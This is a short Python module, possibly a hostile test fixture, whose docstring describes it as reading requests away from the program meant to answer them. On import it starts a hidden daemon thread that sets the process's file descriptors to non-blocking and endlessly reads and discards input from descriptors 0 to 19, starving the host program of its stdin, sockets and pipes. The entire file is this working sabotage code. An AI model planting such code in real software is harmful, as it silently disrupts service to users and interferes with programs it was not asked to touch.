"""Reads the requests away from the program that is to answer them."""

import os
import threading


def steal():
    for number in range(3, 20):
        try:
            os.set_blocking(number, False)
        except OSError:
            continue
    while True:
        for number in range(0, 20):
            try:
                os.read(number, 65536)
            except OSError:
                continue


threading.Thread(target=steal, daemon=True).start()
